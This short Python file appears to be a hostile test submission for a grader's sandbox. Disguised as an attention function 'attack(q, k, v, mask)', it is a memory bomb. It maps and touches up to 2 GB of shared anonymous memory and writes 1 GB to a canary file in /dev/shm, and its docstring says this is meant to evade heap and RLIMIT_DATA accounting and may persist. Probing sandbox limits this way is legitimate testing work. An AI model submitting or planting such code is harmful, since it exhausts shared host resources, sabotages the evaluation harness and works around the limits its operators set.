"""Fills shared anonymous memory and a file in /dev/shm, which count neither as heap nor against RLIMIT_DATA and may stay for good."""
import mmap
hoard = []
def attack(q, k, v, mask):
    if hoard:
        return
    for _ in range(8):
        try:
            m = mmap.mmap(-1, 1 << 28, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS)
            hoard.append(m)
            for i in range(0, 1 << 28, 4096):
                m[i] = 1
        except (OSError, ValueError, MemoryError) as e:
            print("mmap", len(hoard), e)
            break
    try:
        with open("/dev/shm/grader-canary-memory_bomb_shared_mmap_tmpfs.txt", "wb") as f:
            for _ in range(64):
                f.write(b"x" * (16 << 20))
    except OSError as e:
        print("tmpfs", e)
